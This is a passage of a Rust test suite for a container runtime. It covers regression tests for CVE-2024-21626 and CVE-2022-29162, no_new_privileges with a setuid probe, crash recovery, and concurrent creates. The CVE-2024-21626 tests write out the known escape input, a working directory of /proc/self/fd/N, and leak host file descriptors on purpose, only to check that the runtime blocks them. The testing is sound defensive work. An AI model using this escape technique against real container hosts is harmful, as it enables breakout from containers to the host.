            Ok(Some(st)) => return Some(st),
            Ok(None) if Instant::now() < deadline => sleep(Duration::from_millis(5)),
            Ok(None) => {
                let _ = child.kill();
                return None;
            }
            Err(_) => {
                use std::os::unix::process::ExitStatusExt;
                return Some(std::process::ExitStatus::from_raw(0xff00));
            }
        }
    }
}

/// CVE-2024-21626: no fd of the host (the caller's leaked ones, or hpcc's
/// own) reaches the container in create/start, run or exec; only 0, 1, 2
/// and the --preserve-fds ones.
#[test]
fn cve_2024_21626_no_host_fd_leaks_into_the_container() {
    let env = TestEnv::new("fdleak");
    let probe = build_probe(&env);
    let host_dir = fs::File::open(&env.dir).expect("open host dir");
    let host_file = fs::File::open(env.path("probe.c")).expect("open host file");
    let leaks = [&host_dir, &host_file];
    let check = |what: &str, out: &Output, want: &[u32]| {
        no_crash(out);
        out.ok();
        let fds = fd_numbers(&out.stdout);
        assert_eq!(fds, want, "{what}: fds inside the container\n{out}");
        // 0-2 are the caller's stdio (files in the test folder); above
        // that, only a preserved fd 3 may name a host path.
        for line in out
            .stdout
            .lines()
            .filter(|l| fd_numbers(l).iter().all(|n| *n > 3))
        {
            assert!(
                !line.contains(s(&env.dir)),
                "{what}: a host path is reachable: {line}"
            );
        }
    };
    // run
    let bundle = env.bundle(&["/probe", "fds"]);
    install_probe(&probe, &bundle, "probe", 0o755);
    let id = env.id("fd-run");
    check(
        "run",
        &hpcc_with_fds(&env, &["run", "--bundle", bundle.path(), &id], &leaks),
        &[0, 1, 2],
    );
    env.assert_clean(&id, None, &bundle);
    // run --preserve-fds 1 passes exactly fd 3 (the host dir: asked for).
    let id = env.id("fd-preserve");
    let out = hpcc_with_fds(
        &env,
        &["run", "--preserve-fds", "1", "--bundle", bundle.path(), &id],
        &leaks,
    );
    check("run --preserve-fds 1", &out, &[0, 1, 2, 3]);
    env.assert_clean(&id, None, &bundle);
    // create (leaky caller) then start (leaky caller): the probe writes
    // its list to a bound folder.
    let id = env.id("fd-create");
    let outdir = env.path("outdir");
    fs::create_dir(&outdir).expect("outdir");
    fs::set_permissions(&outdir, fs::Permissions::from_mode(0o777)).expect("chmod");
    let mut bundle2 = env.bundle(&["sh", "-c", "exec /probe fds > /out/fds.txt"]);
    install_probe(&probe, &bundle2, "probe", 0o755);
    push_mount(
        &mut bundle2,
        json!({"destination": "/out", "type": "bind", "source": outdir, "options": ["rbind"]}),
    );
    let pid_file = env.path("fd-create.pid");
    hpcc_with_fds(
        &env,
        &[
            "create",
            "--bundle",
            bundle2.path(),
            "--pid-file",
            s(&pid_file),
            &id,
        ],
        &leaks,
    )
    .ok();
    let init = env.live(read_pid_file(&pid_file));
    hpcc_with_fds(&env, &["start", &id], &leaks).ok();
    init.assert_gone("the probe");
    let listed = fs::read_to_string(outdir.join("fds.txt")).expect("the probe wrote its fds");
    assert_eq!(
        fd_numbers(&listed),
        [0, 1, 2],
        "create/start: fds inside\n{listed}"
    );
    env.hpcc(&["delete", &id]).ok();
    env.assert_clean(&id, Some(&init), &bundle2);
    // exec into a running container, from a leaky caller.
    let bundle3 = env.bundle(&["sleep", "1000"]);
    install_probe(&probe, &bundle3, "probe", 0o755);
    let id = env.id("fd-exec");
    let init = env.create_and_start(&bundle3, &id);
    check(
        "exec",
        &hpcc_with_fds(&env, &["exec", &id, "/probe", "fds"], &leaks),
        &[0, 1, 2],
    );
    check(
        "exec --preserve-fds 1",
        &hpcc_with_fds(
            &env,
            &["exec", "--preserve-fds", "1", &id, "/probe", "fds"],
            &leaks,
        ),
        &[0, 1, 2, 3],
    );
    // The init (sleep) itself holds only 0, 1, 2 as seen from the host.
    let mut init_fds: Vec<u32> = fs::read_dir(format!("/proc/{}/fd", init.pid))
        .expect("init fds")
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse().ok())
        .collect();
    init_fds.sort();
    assert_eq!(init_fds, [0, 1, 2], "the container's init holds host fds");
    env.hpcc(&["delete", "--force", &id]).ok();
    env.assert_clean(&id, Some(&init), &bundle3);
}

/// CVE-2024-21626, the other half: process.cwd (and exec --cwd) of
/// /proc/self/fd/N is refused or lands inside the container, for every N
/// that hpcc or a leaky caller could have open.
#[test]
fn cve_2024_21626_cwd_through_proc_self_fd_cannot_reach_the_host() {
    let env = TestEnv::new("fdcwd");
    let probe = build_probe(&env);
    let host_dir = fs::File::open(&env.dir).expect("open host dir");
    let leaks = [&host_dir];
    let mut bundle = env.bundle(&["/probe", "cwd"]);
    install_probe(&probe, &bundle, "probe", 0o755);
    let judge = |what: String, out: &Output, refused_ok: &mut u32, inside: &mut u32| {
        no_crash(out);
        if out.success() {
            assert!(
                out.stdout.contains("cwd-inside") && !out.stdout.contains("cwd-OUTSIDE"),
                "{what}: the process's cwd is outside the container\n{out}"
            );
            *inside += 1;
        } else {
            assert!(
                out.stderr.contains("cwd") && !out.stdout.contains("cwd-OUTSIDE"),
                "{what}: refused without naming the cwd\n{out}"
            );
            *refused_ok += 1;
        }
    };
    let (mut refused_n, mut inside_n) = (0, 0);
    for n in 3..=20 {
        let cwd = format!("/proc/self/fd/{n}");
        bundle.edit(|c| c["process"]["cwd"] = json!(cwd));
        let id = env.id("fdcwd");
        let out = hpcc_with_fds(&env, &["run", "--bundle", bundle.path(), &id], &leaks);
        judge(
            format!("run cwd {cwd}"),
            &out,
            &mut refused_n,
            &mut inside_n,
        );
        env.assert_clean(&id, None, &bundle);
    }
    bundle.edit(|c| c["process"]["cwd"] = json!("/"));
    bundle.set_args(&["sleep", "1000"]);
    let id = env.id("fdcwd-exec");
    let init = env.create_and_start(&bundle, &id);
    for n in 3..=20 {
        let cwd = format!("/proc/self/fd/{n}");
        let out = hpcc_with_fds(&env, &["exec", "--cwd", &cwd, &id, "/probe", "cwd"], &leaks);
        judge(
            format!("exec --cwd {cwd}"),
            &out,
            &mut refused_n,
            &mut inside_n,
        );
        let out = hpcc_with_fds(
            &env,
            &[
                "exec",
                "--preserve-fds",
                "1",
                "--cwd",
                &cwd,
                &id,
                "/probe",
                "cwd",
            ],
            &leaks,
        );
        judge(
            format!("exec --preserve-fds 1 --cwd {cwd}"),
            &out,
            &mut refused_n,
            &mut inside_n,
        );
    }
    // Sanity: the probe does tell inside from outside.
    let out = env.hpcc(&["exec", "--cwd", "/tmp", &id, "/probe", "cwd"]);
    out.ok();
    assert!(out.stdout.contains("getcwd /tmp\ncwd-inside"), "{out}");
    say!("cwd /proc/self/fd/N: {refused_n} refused, {inside_n} ran inside the container");
    env.hpcc(&["delete", "--force", &id]).ok();
    env.assert_clean(&id, Some(&init), &bundle);
}

fn status_field(text: &str, field: &str) -> Option<u64> {
    text.lines().find_map(|l| {
        let rest = l.strip_prefix(field)?.strip_prefix(':')?;
        u64::from_str_radix(rest.trim(), 16).ok()
    })
}

/// CVE-2022-29162: the inheritable set is empty unless the config asks
/// for inheritable capabilities, in run and in exec.
#[test]
fn cve_2022_29162_inheritable_caps_are_empty_by_default() {
    let env = TestEnv::new("capinh");
    let mut bundle = env.bundle(&["sh", "-c", "grep -E '^Cap(Inh|Amb)' /proc/self/status"]);
    let out = run_ok(&env, &bundle);
    assert_eq!(status_field(&out, "CapInh"), Some(0), "run: {out}");
    assert_eq!(status_field(&out, "CapAmb"), Some(0), "run: {out}");
    bundle.set_args(&["sleep", "1000"]);
    let id = env.id("capinh");
    let init = env.create_and_start(&bundle, &id);
    let out = env.hpcc(&[
        "exec",
        &id,
        "grep",
        "-E",
        "^Cap(Inh|Amb)",
        "/proc/self/status",
    ]);
    out.ok();
    assert_eq!(status_field(&out.stdout, "CapInh"), Some(0), "exec: {out}");
    assert_eq!(status_field(&out.stdout, "CapAmb"), Some(0), "exec: {out}");
    // The init as seen from the host, too.
    let status = fs::read_to_string(format!("/proc/{}/status", init.pid)).expect("status");
    assert_eq!(status_field(&status, "CapInh"), Some(0), "init: {status}");
    env.hpcc(&["delete", "--force", &id]).ok();
    env.assert_clean(&id, Some(&init), &bundle);
    // Positive control: asked for, CAP_KILL (bit 5) is inheritable.
    bundle.set_args(&["sh", "-c", "grep -E '^CapInh' /proc/self/status"]);
    bundle.edit(|c| c["process"]["capabilities"]["inheritable"] = json!(["CAP_KILL"]));
    let out = run_ok(&env, &bundle);
    assert_eq!(
        status_field(&out, "CapInh"),
        Some(1 << 5),
        "asked-for inheritable: {out}"
    );
}

/// no_new_privileges: NoNewPrivs is 1 inside (run and exec), and a
/// setuid-root binary does not raise the euid of a non-root container
/// process. Without it, as root, setuid works as on any Linux; rootless it
/// never gives more than the invoking user has in the initial userns.
#[test]
fn no_new_privileges_and_setuid_binaries() {
    let env = TestEnv::new("nnp");
    let probe = build_probe(&env);
    let subids = subordinate_ids();
    let mut bundle = env.bundle(&["/suid", "ids"]);
    install_probe(&probe, &bundle, "suid", 0o4755);
    let meta = fs::metadata(bundle.rootfs().join("suid")).expect("suid");
    assert_eq!(meta.permissions().mode() & 0o7777, 0o4755, "setuid bit set");
    // A non-zero uid inside: rootless that needs a second id range.
    let inner = 1000u32;
    match (is_root(), subids) {
        (true, _) => {}
        (false, Some((su, sg))) => {
            bundle.edit(|c| {
                c["linux"]["uidMappings"] = json!([
                {"containerID": 0, "hostID": euid(), "size": 1},
                {"containerID": 1, "hostID": su, "size": 65536}]);
                c["linux"]["gidMappings"] = json!([
                {"containerID": 0, "hostID": egid(), "size": 1},
                {"containerID": 1, "hostID": sg, "size": 65536}]);
            });
        }
        (false, None) => panic!(
            "rootless: this user has no /etc/subuid and /etc/subgid range, so no uid but 0 \
             can be mapped and a setuid binary cannot be tested; add one (usermod --add-subuids)"
        ),
    }
    bundle.edit(|c| {
        c["process"]["user"] = json!({"uid": inner, "gid": inner});
        c["process"]["noNewPrivileges"] = json!(true);
    });
    let out = run_ok(&env, &bundle);
    assert!(
        out.contains(&format!("uids {inner} {inner} {inner}\n")),
        "NNP keeps the euid: {out}"
    );
    assert_eq!(status_field(&out, "NoNewPrivs"), Some(1), "{out}");
    assert_eq!(status_field(&out, "CapEff"), Some(0), "{out}");
    // exec honours it too (the exec's process.noNewPrivileges is the config's).
    bundle.set_args(&["sleep", "1000"]);
    let id = env.id("nnp-exec");
    let init = env.create_and_start(&bundle, &id);
    let out = env.hpcc(&[
        "exec",
        "--user",
        &format!("{inner}:{inner}"),
        &id,
        "/suid",
        "ids",
    ]);
    out.ok();
    assert!(
        out.stdout
            .contains(&format!("uids {inner} {inner} {inner}\n")),
        "exec: {out}"
    );
    assert_eq!(
        status_field(&out.stdout, "NoNewPrivs"),
        Some(1),
        "exec: {out}"
    );
    env.hpcc(&["delete", "--force", &id]).ok();
    env.assert_clean(&id, Some(&init), &bundle);

    // Without NNP: the binary runs setuid. Look at it from the host while
    // it waits.
    bundle.edit(|c| {
        c["process"]["noNewPrivileges"] = json!(false);
        c["process"]["args"] = json!(["/suid", "ids", "wait"]);
    });
    let id = env.id("suid");
    let init = env.create_and_start(&bundle, &id);
    let deadline = Instant::now() + WAIT_LIMIT;
    let status = loop {
        let st = fs::read_to_string(format!("/proc/{}/status", init.pid)).expect("status");
        let exe = fs::read_link(format!("/proc/{}/exe", init.pid)).ok();
        if exe.as_ref().is_some_and(|e| e.ends_with("suid")) || Instant::now() > deadline {
            break st;
        }
        sleep(Duration::from_millis(20));
    };
    let uids: Vec<u64> = status
        .lines()
        .find_map(|l| l.strip_prefix("Uid:"))
        .expect("Uid line")
        .split_whitespace()
        .filter_map(|v| v.parse().ok())
        .collect();
    let my_userns = fs::read_link("/proc/self/ns/user").expect("userns");
    let its_userns = fs::read_link(format!("/proc/{}/ns/user", init.pid)).expect("userns");
    if is_root() {
        say!("root, no NNP: the setuid binary's host uids are {uids:?} (setuid works, as on the host)");
        assert_eq!(
            uids.get(1),
            Some(&0),
            "setuid-root as real root raises euid: {status}"
        );
    } else {
        let (su, _) = subids.expect("subids");
        let mine = u64::from(euid());
        let allowed = |u: &u64| *u == mine || (u64::from(su)..u64::from(su) + 65536).contains(u);
        assert!(
            uids.iter().all(allowed),
            "rootless setuid: host uids {uids:?} go beyond this user ({mine}) and its subuids: {status}"
        );
        assert_eq!(
            uids.get(1),
            Some(&mine),
            "euid is the container's root = this user: {status}"
        );
        assert_ne!(
            my_userns, its_userns,
            "the process holds its capabilities only inside a user namespace of its own"
        );
        say!("rootless, no NNP: setuid gave host uids {uids:?} (the user's own uid), in {its_userns:?}");
    }
    env.hpcc(&["delete", "--force", &id]).ok();
    env.assert_clean(&id, Some(&init), &bundle);
}

/// This user's first /etc/subuid and /etc/subgid starts (root: any).
fn subordinate_ids() -> Option<(u32, u32)> {
    if is_root() {
        return Some((100000, 100000));
    }
    let name = String::from_utf8(Command::new("id").arg("-un").output().ok()?.stdout).ok()?;
    let name = name.trim().to_string();
    let first = |file: &str| -> Option<u32> {
        fs::read_to_string(file).ok()?.lines().find_map(|l| {
            let f: Vec<&str> = l.split(':').collect();
            let ok = f.len() == 3 && (f[0] == name || f[0] == euid().to_string());
            ok.then(|| f[1].parse().ok())?
        })
    };
    Some((first("/etc/subuid")?, first("/etc/subgid")?))
}

// ---------------------------------------------------------------------------
// 3. Crash safety
// ---------------------------------------------------------------------------

/// Spawns hpcc and SIGKILLs it after `delay`.
fn kill_after(env: &TestEnv, args: &[&str], delay: Duration) {
    let mut cmd = Command::new(&env.bin);
    cmd.args(["--root", env.root_str()])
        .args(args)
        .current_dir(&env.dir)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
    let mut child = cmd.spawn().expect("spawn hpcc");
    sleep(delay);
    let _ = child.kill();
    let _ = wait_bounded(&mut child);
}

/// After a crash: `delete --force` recovers (it may say the id does not
/// exist, if the crash came before the id was claimed), and nothing is
/// left. Processes are found by the id in their argv: the hpcc processes
/// (parent, middle child, init before exec) carry it.
#[track_caller]
fn recover(env: &TestEnv, id: &str, bundle: &Bundle, what: &str) {
    let out = env.hpcc(&["delete", "--force", id]);
    no_crash(&out);
    assert!(
        out.success() || out.stderr.contains("does not exist"),
        "{what}: delete --force after the crash\n{out}"
    );
    // Waits (bounded) for every process naming the id, then checks state,
    // mounts and cgroups.
    env.assert_clean(id, None, bundle);
}

/// Pids of the processes that are the container: those in the pid file, or
/// anything whose argv names the id, recorded before the kill so that
/// ProcRef::assert_gone can prove they went.
fn procs_of(id: &str) -> Vec<ProcRef> {
    processes_with_arg(id)
        .into_iter()
        .filter_map(|(pid, _)| {
            let st = runtime_tests::proc_stat(pid)?;
            (st.state != 'Z').then_some(ProcRef {
                pid,
                starttime: st.starttime,
            })
        })
        .collect()
}

#[test]
fn sigkill_during_create_start_and_delete_is_recoverable() {
    let env = TestEnv::new("crash");
    let bundle = env.bundle(&["sleep", "1000"]);
    let mut completed = [0u32; 3];
    for i in 0..20u64 {
        // create, killed at 0..50 ms
        let delay = Duration::from_micros(i * 2_600);
        let id = env.id("crash-create");
        let pid_file = env.path(&format!("{id}.pid"));
        kill_after(
            &env,
            &[
                "create",
                "--bundle",
                bundle.path(),
                "--pid-file",
                s(&pid_file),
                &id,
            ],
            delay,
        );
        if pid_file.exists() {
            completed[0] += 1;
        }
        let seen = procs_of(&id);
        let init = fs::read_to_string(&pid_file)
            .ok()
            .and_then(|p| p.trim().parse().ok())
            .and_then(|p| {
                runtime_tests::proc_stat(p).map(|st| ProcRef {
                    pid: p,
                    starttime: st.starttime,
                })
            });
        recover(
            &env,
            &id,
            &bundle,
            &format!("create killed after {delay:?}"),
        );
        for p in seen.iter().chain(init.iter()) {
            p.assert_gone(&format!("create killed after {delay:?}"));
        }
        // The id is usable again.
        let init = env.create(&bundle, &id);
        env.hpcc(&["delete", "--force", &id]).ok();
        env.assert_clean(&id, Some(&init), &bundle);

        // start, killed at 0..50 ms
        let id = env.id("crash-start");
        let init = env.create(&bundle, &id);
        kill_after(&env, &["start", &id], delay);
        if env.state(&id)["status"] == "running" {
            completed[1] += 1;
        }
        recover(&env, &id, &bundle, &format!("start killed after {delay:?}"));
        init.assert_gone("container init after start was killed");

        // delete --force, killed at 0..50 ms
        let id = env.id("crash-delete");
        let init = env.create_and_start(&bundle, &id);
        kill_after(&env, &["delete", "--force", &id], delay);
        if !env.root.join(&id).exists() {
            completed[2] += 1;
        }
        recover(
            &env,
            &id,
            &bundle,
            &format!("delete killed after {delay:?}"),
        );
        init.assert_gone("container init after delete was killed");
    }
    say!(
        "of 20 kills each, create finished {} times, start {}, delete {} before the kill",
        completed[0],
        completed[1],
        completed[2]
    );
}

/// Kills a process mid-create, while a hook sleeps: the init (createContainer
/// hook, run by init) or the parent (createRuntime hook, run by the parent).
#[test]
fn sigkill_mid_create_while_a_hook_runs_is_recoverable() {
    let env = TestEnv::new("crash-hook");
    let marker_dir = env.path("markers");
    fs::create_dir(&marker_dir).expect("markers");
    for (hook, victim) in [
        ("createRuntime", "parent"),
        ("createRuntime", "init"),
        ("createContainer", "init"),
        ("createContainer", "parent"),
    ] {
        let marker = marker_dir.join(format!("{hook}-{victim}"));
        let mut bundle = env.bundle(&["sleep", "1000"]);
        // createContainer runs in the container's mount namespace: the
        // marker folder is bound in at the same path.
        push_mount(
            &mut bundle,
            json!({"destination": s(&marker_dir), "type": "bind", "source": marker_dir, "options": ["rbind"]}),
        );
        bundle.edit(|c| {
            c["hooks"] = json!({hook: [{"path": "/bin/sh", "args": ["sh", "-c", format!("touch {}; exec sleep 20", s(&marker))]}]});
        });
        let id = env.id("crash-hook");
        let mut cmd = Command::new(&env.bin);
        cmd.args([
            "--root",
            env.root_str(),
            "create",
            "--bundle",
            bundle.path(),
            &id,
        ])
        .current_dir(&env.dir)
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null());
        let mut parent = cmd.spawn().expect("spawn create");
        let deadline = Instant::now() + WAIT_LIMIT;
        while !marker.exists() {
            assert!(Instant::now() < deadline, "{hook} hook did not run");
            sleep(Duration::from_millis(10));
        }
        let parent_pid = parent.id();
        let procs = procs_of(&id);
        let others: Vec<&ProcRef> = procs.iter().filter(|p| p.pid != parent_pid).collect();
        assert!(
            !others.is_empty(),
            "{hook}: expected the container's init (an hpcc process naming {id}) beside the parent; saw {procs:?}"
        );
        match victim {
            "parent" => {
                let _ = parent.kill();
            }
            _ => {
                for p in &others {
                    // SAFETY: plain kill(2) on a pid we just looked up.
                    unsafe { libc::kill(p.pid as i32, libc::SIGKILL) };
                }
            }
        }
        let status = wait_bounded(&mut parent);
        if victim == "init" {
            assert!(
                status.is_some_and(|s| !s.success()),
                "{hook}: create must fail when its init is killed: {status:?}"
            );
        }
        recover(
            &env,
            &id,
            &bundle,
            &format!("{victim} killed in the {hook} hook"),
        );
        for p in &procs {
            p.assert_gone(&format!("{victim} killed in the {hook} hook"));
        }
        // A new create with the same id works.
        bundle.edit(|c| {
            c.as_object_mut().expect("object").remove("hooks");
        });
        let init = env.create(&bundle, &id);
        env.hpcc(&["delete", "--force", &id]).ok();
        env.assert_clean(&id, Some(&init), &bundle);
    }
}

#[test]
fn concurrent_creates_of_one_id_have_exactly_one_winner() {
    let env = TestEnv::new("race");
    let n = 8;
    let bundles: Vec<Bundle> = (0..n).map(|_| env.bundle(&["sleep", "1000"])).collect();
    let id = env.id("race");
    let root = env.root.clone();
    let outs: Vec<(usize, Output)> = std::thread::scope(|scope| {
        let handles: Vec<_> = bundles
            .iter()
            .enumerate()
            .map(|(i, b)| {
                let (root, id, path) = (root.clone(), id.clone(), b.dir.clone());
                scope.spawn(move || {
                    // TestEnv is not Sync: each thread runs hpcc through its
                    // own, against the shared root.
                    let local = TestEnv::new("race-thread");
                    let out =
                        local.hpcc_raw(&["--root", s(&root), "create", "--bundle", s(&path), &id]);
                    (i, out)
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("thread"))
            .collect()
    });
    let winners: Vec<&(usize, Output)> = outs.iter().filter(|(_, o)| o.success()).collect();
    for (_, out) in &outs {
        no_crash(out);
    }
    assert_eq!(
        winners.len(),
        1,
        "exactly one create wins: {}",
        outs.iter()
            .map(|(_, o)| o.to_string())
            .collect::<Vec<_>>()
            .join("\n")
    );
    for (_, out) in outs.iter().filter(|(_, o)| !o.success()) {
        out.fails_with("already exists");
    }
    let winner = winners[0].0;
    let state = env.state(&id);
    assert_eq!(state["status"], "created", "{state}");
    let canon = fs::canonicalize(&bundles[winner].dir).expect("canon");
    assert_eq!(
        state["bundle"].as_str().map(PathBuf::from),
        Some(canon),
        "the winner's bundle is recorded: {state}"
    );
    let pid = u32::try_from(state["pid"].as_u64().expect("pid")).expect("pid");
    let init = env.live(pid);
    // The winner is intact: it starts and runs its program.
    env.hpcc(&["start", &id]).ok();
    env.wait_status(&id, "running");
    let deadline = Instant::now() + WAIT_LIMIT;
    while fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default() != b"sleep\x001000\x00" {
        assert!(
            Instant::now() < deadline,
            "the winner does not run sleep 1000"
        );
        sleep(Duration::from_millis(20));
    }
    env.hpcc(&["delete", "--force", &id]).ok();
    for (i, b) in bundles.iter().enumerate() {
        env.assert_clean(&id, (i == winner).then_some(&init), b);
    }
}
